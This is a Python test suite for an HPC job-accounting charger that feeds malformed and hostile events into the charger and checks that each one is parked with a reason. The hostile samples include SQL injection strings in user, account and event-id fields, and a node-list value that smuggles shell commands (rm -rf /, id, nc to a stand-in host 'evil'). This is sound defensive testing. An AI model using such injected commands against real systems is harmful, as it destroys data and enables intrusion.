"""Malformed and hostile events: each is parked alone, with a reason naming the problem and its
payload kept as received, while the valid events of its batch are still charged.

Every in-process case runs one batch through ``charge_events``: a valid event, the hostile one,
another valid event (rolled back after each test). The end-to-end test at the bottom spools such
events for the real relay and charger worker processes.
"""

from __future__ import annotations

import base64
import datetime as dt
import json
import os
import time
from collections.abc import Callable
from dataclasses import dataclass
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
from sqlalchemy import Engine, func, select
from sqlalchemy.orm import Session

from openacct.shortcuts import deposit
from services.charger.batch import charge_events
from shared import ledger, spool
from shared.db import session_scope
from shared.event_id import job_event_id
from shared.events import MAX_EVENT_BYTES
from shared.models import Job, LedgerTransaction, ParkedEvent
from tests.events import job_completed
from tests.pipeline import Process, RedisServer, wait_for

D = Decimal
UTC = dt.UTC
Item = str | dict[str, str]
HOSTILE_JOB = "666"


# --------------------------------------------------------------------------- building events


def text(event: object) -> str:
    return json.dumps(event)


def _epoch(value: str | None) -> int | None:
    return None if value is None else int(dt.datetime.fromisoformat(value).timestamp())


def rekey(event: dict[str, Any]) -> dict[str, Any]:
    """The id a hook would give the event after its times or system were changed."""
    event["event_id"] = job_event_id(event["kind"], event["system"], event["job_id"], event.get("array_task_id"),
                                     event.get("het_offset"), _epoch(event.get("submit_time")),
                                     _epoch(event.get("start_time")))
    return event


def bad(**fields: Any) -> dict[str, Any]:
    """Job 666, valid but for ``fields`` (its id still matches: only the job and times feed it)."""
    named = ("user", "account", "system", "cpus")
    event = job_completed(HOSTILE_JOB, **{k: v for k, v in fields.items() if k in named})
    event.update({k: v for k, v in fields.items() if k not in named})
    return event


def without(*names: str) -> str:
    event = bad()
    for name in names:
        del event[name]
    return text(event)


def now() -> dt.datetime:
    return dt.datetime.now(UTC).replace(microsecond=0) - dt.timedelta(minutes=5)


def ago(**delta: float) -> dt.datetime:
    return now() - dt.timedelta(**delta)


# One moment for the cases whose two events must name one job: a submit time read twice from the
# clock can fall on two sides of a second, and the job is known by its whole key.
MOMENT = now()


def submitted(**delta: float) -> dt.datetime:
    return MOMENT - dt.timedelta(**delta)


def times(submit: dt.datetime | None, start: dt.datetime | None, end: dt.datetime, *, keep_id: bool = False) -> str:
    event = bad()
    for key, value in (("submit_time", submit), ("start_time", start), ("end_time", end)):
        if value is None:
            del event[key]
        else:
            event[key] = value.isoformat()
    return text(event if keep_id else rekey(event))


def started(submit: dt.datetime, start: dt.datetime) -> str:
    event = {"schema_version": 1, "kind": "job.started", "source": "test", "system": "cluster",
             "job_id": HOSTILE_JOB, "user": "tux", "account": "phys", "partition": "batch",
             "submit_time": submit.isoformat(), "start_time": start.isoformat(), "cpus": 4}
    return text(rekey(event))


def refund(**fields: Any) -> str:
    event = {"schema_version": 1, "kind": "refund.requested", "event_id": "refund:1", "system": "cluster",
             "job_id": "1001", "reason": "node crashed", "requester": "bob"}
    event.update(fields)
    return text(event)


def before() -> dict[str, Any]:
    return job_completed(1001, cpus=4, seconds=3600)  # 4 core-hours at 0.05


def after() -> dict[str, Any]:
    return job_completed(1002, cpus=2, seconds=5400)  # 3 core-hours at 0.05


NEIGHBOURS = {"1001": (D(4), D("0.2")), "1002": (D(3), D("0.15"))}


def raw_of(item: Item) -> bytes:
    """The bytes the item stands for: {"b64": ...} as the relay sends bytes that are not UTF-8;
    a lone surrogate (a JSON "\\ud800" escape in a broker message) as no UTF-8 encoder writes it."""
    if isinstance(item, dict):
        return base64.b64decode(item["b64"])
    return item.encode("utf-8", "surrogatepass")


# --------------------------------------------------------------------------- the cases


@dataclass(frozen=True)
class Case:
    id: str
    build: Callable[[], Item]
    reason: str  # a substring the parked reason must contain; "" for events that are not parked
    outcome: str = "parked"  # or "recorded" (applied, not charged), or "duplicate"
    setup: Callable[[], list[str]] | None = None  # a batch applied first
    check: Callable[[Session, ParkedEvent | None], None] | None = None


def _job_is(state: str, policy: str) -> Callable[[Session, ParkedEvent | None], None]:
    def check(s: Session, _: ParkedEvent | None) -> None:
        job = s.scalar(select(Job).where(Job.job_id == HOSTILE_JOB))
        assert (job.state, job.charge_policy) == (state, policy)

    return check


def _id_kept_printable(s: Session, p: ParkedEvent | None) -> None:
    assert p is not None and p.event_id == "refund:\\x00; DROP TABLE jobs" and p.kind == "refund.requested"


def _no_job(s: Session, _: ParkedEvent | None) -> None:
    assert s.scalar(select(func.count()).select_from(Job).where(Job.job_id == HOSTILE_JOB)) == 0


CASES = [
    # wrong types
    Case("cpus-as-a-word", lambda: text(bad(cpus="four")), "cpus: Input should be a valid integer"),
    Case("cpus-as-a-string", lambda: text(bad(cpus="4")), "cpus: Input should be a valid integer"),
    Case("cpus-as-a-boolean", lambda: text(bad(cpus=True)), "cpus: Input should be a valid integer"),
    Case("cpus-fractional", lambda: text(bad(cpus=4.5)), "cpus: Input should be a valid integer"),
    Case("cpus-nan", lambda: text(bad(cpus=float("nan"))), "cpus: Input should be a valid integer"),
    # The contract's job ids are strings (schedulers have "123_4", "123+1"): a JSON number is refused.
    Case("job-id-as-a-number", lambda: text({**bad(), "job_id": 666}), "job_id: Input should be a valid string"),
    Case("schema-version-as-a-string", lambda: text(bad(schema_version="1")), "unsupported schema_version '1'"),
    Case("kind-as-a-number", lambda: text(bad(kind=5)), "unknown kind '5'"),
    # missing fields
    Case("missing-user", lambda: without("user"), "user: Field required"),
    Case("missing-system", lambda: without("system"), "system: Field required"),
    Case("missing-end-time", lambda: without("end_time"), "end_time: Field required"),
    Case("missing-kind", lambda: without("kind"), "kind is missing"),
    Case("missing-event-id", lambda: without("event_id"), "event_id: Field required"),
    Case("missing-schema-version", lambda: without("schema_version"), "schema_version: Field required"),
    Case("missing-submit-and-start-time", lambda: times(None, None, now(), keep_id=True),
         "a job event needs submit_time or start_time"),
    # out of range
    Case("negative-cpus", lambda: text(bad(cpus=-4)), "cpus: Input should be greater than or equal to 0"),
    Case("absurd-cpus", lambda: text(bad(cpus=10**9)), "cpus: Input should be less than or equal to 10000000"),
    Case("absurd-gpus", lambda: text(bad(gpus=10**12)), "gpus: Input should be less than or equal to 10000000"),
    Case("exit-code-out-of-range", lambda: text(bad(exit_code=70000)),
         "exit_code: Input should be less than or equal to 1024"),
    # times
    Case("end-before-start", lambda: times(ago(hours=3), ago(hours=1), ago(hours=2)), "end_time is before start_time"),
    Case("start-before-submit", lambda: times(ago(hours=1), ago(hours=2), now()), "start_time is before submit_time"),
    Case("ran-five-years", lambda: times(ago(days=5 * 365, minutes=1), ago(days=5 * 365), now()),
         "the job ran longer than 400 days"),
    Case("far-future", lambda: times(dt.datetime(2999, 1, 1, tzinfo=UTC), dt.datetime(2999, 1, 1, 1, tzinfo=UTC),
                                     dt.datetime(2999, 1, 1, 2, tzinfo=UTC), keep_id=True),
         "end_time: is not a plausible time (before 1990 or in the future)"),
    Case("before-1990", lambda: times(dt.datetime(1985, 1, 1, tzinfo=UTC), dt.datetime(1985, 1, 1, 1, tzinfo=UTC),
                                      dt.datetime(1985, 1, 1, 2, tzinfo=UTC), keep_id=True),
         "submit_time: is not a plausible time (before 1990 or in the future)"),
    Case("naive-time", lambda: text(bad(end_time=now().replace(tzinfo=None).isoformat())),
         "end_time: must carry a time zone"),
    Case("impossible-offset", lambda: text(bad(end_time="2024-01-01T00:00:00+25:00")),
         "end_time: Input should be a valid datetime"),
    # names OpenAcct does not know
    Case("unknown-account", lambda: text(bad(account="nope")), "unknown account 'nope' on system 'cluster'"),
    Case("unknown-system", lambda: text(rekey(bad(system="other"))), "unknown system 'other'"),
    Case("unknown-user", lambda: text(bad(user="mallory")), "unknown user 'mallory' on system 'cluster'"),
    Case("user-not-a-member", lambda: text(bad(user="sue")), "user 'sue' is not a member of project 'phys'"),
    Case("no-account", lambda: text(bad(account=None)), "the job names no account"),
    Case("unknown-state", lambda: text(bad(state="EXPLODED")), "state: unknown job state 'EXPLODED'"),
    Case("gpus-without-a-gpu-service", lambda: text(bad(gpus=2)), "system 'cluster' has no service for gpu use"),
    Case("completion-without-any-start", lambda: times(ago(hours=1), None, now()), "no start time for job 666"),
    # what a job.started recorded earlier, contradicted
    Case("completion-ending-before-its-recorded-start", lambda: times(submitted(hours=3), None, ago(hours=2)),
         "is before the start_time", setup=lambda: [started(submitted(hours=3), ago(hours=1))]),
    Case("completion-years-after-its-recorded-start", lambda: times(submitted(days=1000), None, now()),
         "ran longer than 400 days", setup=lambda: [started(submitted(days=1000), submitted(days=1000))]),
    # not JSON, not an object, not an event
    Case("bad-utf8", lambda: {"b64": base64.b64encode(b'{"kind": "job.completed", "user": "\xff\xfe"}').decode()},
         "payload is not UTF-8 (bad byte at offset 35)"),
    Case("lone-surrogate-in-the-message", lambda: text(bad())[:-1] + ', "name": "\ud800"}', "payload is not UTF-8"),
    Case("lone-surrogate-escape", lambda: text(bad())[:-1] + ', "name": "\\ud800"}', "Invalid JSON"),
    Case("invalid-json", lambda: '{"schema_version": 1, "kind": "job.completed",', "Invalid JSON"),
    Case("empty-payload", lambda: "", "Invalid JSON: EOF while parsing"),
    Case("deeply-nested", lambda: "[" * 100_000 + "]" * 100_000, "Invalid JSON: recursion limit exceeded"),
    Case("json-list", lambda: text([bad(), bad()]), "an event must be a JSON object, not a list"),
    Case("json-number", lambda: "42", "an event must be a JSON object, not a number"),
    Case("json-null", lambda: "null", "an event must be a JSON object, not null"),
    Case("ten-megabytes", lambda: text(bad(name="x" * (10 * 1024 * 1024))),
         f"is larger than the {MAX_EVENT_BYTES} bytes an event may have"),
    Case("schema-version-2", lambda: text(bad(schema_version=2)), "unsupported schema_version 2 (this OpenAcct reads 1)"),
    Case("unknown-kind", lambda: text(bad(kind="job.exploded")), "unknown kind 'job.exploded'"),
    Case("refund-sent-to-the-charger", lambda: refund(),
         "refund.requested events go to the refunder, not the charger"),
    Case("refund-with-a-nul-in-its-id", lambda: refund(event_id="refund:\x00; DROP TABLE jobs"),
         "refund.requested events go to the refunder, not the charger", check=_id_kept_printable),
    # forgery and smuggling
    Case("forged-event-id", lambda: text(bad(event_id=before()["event_id"])), "does not match its job"),
    Case("extra-fields", lambda: text(bad(rate="0", comment="free")), "rate: Extra inputs are not permitted"),
    Case("sql-in-user", lambda: text(bad(user="phys'; DROP TABLE jobs;--")), "user: String should match pattern"),
    Case("sql-in-account", lambda: text(bad(account="phys'; DROP TABLE jobs;--")),
         "account: String should match pattern"),
    Case("ten-thousand-char-user", lambda: text(bad(user="u" * 10_000)), "user: String should have at most 64 characters"),
    Case("ten-thousand-char-account", lambda: text(bad(account="a" * 10_000)),
         "account: String should have at most 64 characters"),
    Case("shell-in-node-list", lambda: text(bad(node_list="c01;$(rm -rf /)`id`|nc evil 1")),
         "node_list: String should match pattern"),
    # controls: not parked
    Case("node-fail", lambda: text(bad(state="NODE_FAIL")), "", "recorded",
         check=_job_is("NODE_FAIL", "state NODE_FAIL is not charged")),
    Case("duplicate-in-the-batch", lambda: text(before()), "", "duplicate", check=_no_job),
    # The first of two events with one id wins, as across batches: the second cannot change the charge.
    Case("same-id-other-content-in-the-batch", lambda: text({**before(), "cpus": 10_000}), "", "duplicate",
         check=_no_job),
    # A job.started arriving after its job's completion (late, replayed) cannot reopen the job.
    Case("late-start-after-the-end", lambda: started(submitted(hours=3), ago(hours=1)), "", "recorded",
         setup=lambda: [times(submitted(hours=3), ago(hours=2, minutes=30), ago(hours=2), keep_id=False)],
         check=_job_is("COMPLETED", "charged for elapsed time")),
]


# --------------------------------------------------------------------------- in process


@pytest.fixture
def funded(quickstart: None) -> None:
    deposit("phys", "1000", start="2000-01-01")
    deposit("chem", "1000", start="2000-01-01")


def test_there_are_enough_distinct_cases() -> None:
    assert len({c.id for c in CASES}) == len(CASES) >= 32
    assert MAX_EVENT_BYTES == spool.MAX_EVENT_BYTES  # the charger and the relay refuse the same sizes


@pytest.mark.usefixtures("funded")
@pytest.mark.parametrize("case", CASES, ids=[c.id for c in CASES])
def test_a_hostile_event_is_parked_alone_and_its_neighbours_are_charged(case: Case) -> None:
    if case.setup is not None:
        with session_scope() as s:
            assert charge_events(s, case.setup(), source="setup").parked == 0
    with session_scope() as s:
        earlier = set(s.scalars(select(LedgerTransaction.id)))
    item = case.build()

    with session_scope() as s:
        outcome = charge_events(s, [text(before()), item, text(after())], source="test")

    with session_scope() as s:
        parked = list(s.scalars(select(ParkedEvent)))
        charged = {
            job_id: (t.quantity, t.amount)
            for t, job_id in s.execute(select(LedgerTransaction, Job.job_id).join(Job, Job.id == LedgerTransaction.job_id)
                                       .where(LedgerTransaction.kind == "charge"))
            if t.id not in earlier
        }
        assert ledger.verify(s) == []
        assert charged == NEIGHBOURS  # both neighbours, each once, for the right amount; nothing else
        assert (outcome.charged, outcome.transactions) == (2, 2)
        if case.outcome == "parked":
            assert outcome.parked == 1
            (p,) = parked
            assert case.reason in p.reason, p.reason
            assert "\n" not in p.reason and len(p.reason) < 1000, p.reason
            raw = raw_of(item)
            if len(raw) <= MAX_EVENT_BYTES:
                assert p.payload == raw  # byte for byte
            else:  # kept in part, and the reason says so
                assert p.payload == raw[:MAX_EVENT_BYTES]
                assert f"(payload of {len(raw)} bytes truncated to its first {MAX_EVENT_BYTES})" in p.reason
            assert (p.source, p.replayed_at) == ("test", None)
        else:
            assert parked == [] and outcome.parked == 0
            assert (outcome.recorded, outcome.duplicates) == ((3, 0) if case.outcome == "recorded" else (2, 1))
        if case.check is not None:
            case.check(s, parked[0] if parked else None)


@pytest.mark.usefixtures("funded")
def test_an_event_parked_ahead_of_the_real_one_with_its_id_cannot_shadow_it() -> None:
    real = before()
    fakes = [{**real, "user": "mallory"}, {**real, "account": "nope"}]  # the id covers the job, not the names
    with session_scope() as s:
        outcome = charge_events(s, [text(f) for f in fakes] + [text(real), text({**real, "cpus": 10_000})])
    assert (outcome.charged, outcome.parked, outcome.duplicates) == (1, 2, 1)
    with session_scope() as s:
        (charge,) = s.scalars(select(LedgerTransaction).where(LedgerTransaction.kind == "charge"))
        assert (charge.quantity, charge.amount) == NEIGHBOURS["1001"]
        assert sorted(p.reason.split(" on ")[0] for p in s.scalars(select(ParkedEvent))) == [
            "unknown account 'nope'", "unknown user 'mallory'"]


def test_the_relay_routes_a_deeply_nested_payload_to_the_charger() -> None:
    from shared.relay import message_item

    assert message_item(b"[" * 100_000 + b"]" * 100_000)[0] == "charger"


# --------------------------------------------------------------------------- end to end

# Not spooled: refunds go to the refunder's queue by design, and the 10 MB one is spooled on its
# own as the oversized file.
NOT_SPOOLED = {"refund-sent-to-the-charger", "refund-with-a-nul-in-its-id", "ten-megabytes"}


def _count(engine: Engine, query: Any) -> int:
    with Session(engine) as s:
        return s.scalar(query)


def test_hostile_events_through_the_real_relay_and_worker(center: Engine, redis: RedisServer, tmp_path: Path) -> None:
    spool_dir = tmp_path / "spool"
    hostile = [(c, raw_of(c.build())) for c in CASES
               if c.outcome == "parked" and c.setup is None and c.id not in NOT_SPOOLED]
    valid = [job_completed(2000 + i, cpus=i + 1, seconds=3600) for i in range(len(hostile) + 1)]
    for i, event in enumerate(valid):
        spool.write(spool_dir, event["event_id"], json.dumps(event).encode())
        if i < len(hostile):
            spool.write(spool_dir, f"hostile-{hostile[i][0].id}", hostile[i][1])
        if i == len(hostile) // 2:
            spool.write(spool_dir, event["event_id"], json.dumps(event).encode())  # the hook fired twice
            spool.write(spool_dir, "huge", json.dumps(bad(name="x" * (300 * 1024))).encode())
    assert len(hostile) >= 30

    env = {**os.environ, "OPENACCT_BROKER_URL": redis.url, "OPENACCT_SPOOL_DIR": str(spool_dir),
           "OPENACCT_BROKER_VISIBILITY_TIMEOUT": "10", "OPENACCT_RELAY_BATCH_SIZE": "200"}
    worker = Process(["worker", "charger", "-c", "1"], env, tmp_path / "worker.log").start()
    relay = Process(["relay"], env, tmp_path / "relay.log").start()
    charges = select(func.count()).where(LedgerTransaction.kind == "charge")
    parked = select(func.count()).select_from(ParkedEvent)
    try:
        wait_for(lambda: spool.backlog(spool_dir)[0] == 0, 15, "the relay to drain the spool")
        wait_for(lambda: _count(center, charges) >= len(valid) and _count(center, parked) >= len(hostile), 15,
                 "every valid event charged and every hostile one parked")
        time.sleep(0.5)  # anything more would show now
        assert worker.alive() and relay.alive()
    finally:
        relay.stop()
        worker.stop()

    assert _count(center, charges) == len(valid)
    assert _count(center, parked) == len(hostile)
    with Session(center) as s:
        amounts = dict(s.execute(select(Job.job_id, LedgerTransaction.amount)
                                 .join(Job, Job.id == LedgerTransaction.job_id)).all())
        assert amounts == {e["job_id"]: D(e["cpus"]) * D("0.05") for e in valid}
        reasons = {p.payload: p.reason for p in s.scalars(select(ParkedEvent))}
        assert ledger.verify(s) == []
    for case, raw in hostile:  # each parked once, as it was spooled, with its own reason
        assert case.reason in reasons[raw], (case.id, reasons[raw])
    log = (tmp_path / "worker.log").read_text()
    assert "failed as a whole" not in log  # no batch fell back to one event at a time

    (raw_file,) = (spool_dir / spool.REJECT).glob("*.raw")
    (reason_file,) = (spool_dir / spool.REJECT).glob("*.reason")
    assert f"is larger than {spool.MAX_EVENT_BYTES}" in reason_file.read_text()
    assert raw_file.stat().st_size > spool.MAX_EVENT_BYTES  # kept whole, as it was spooled
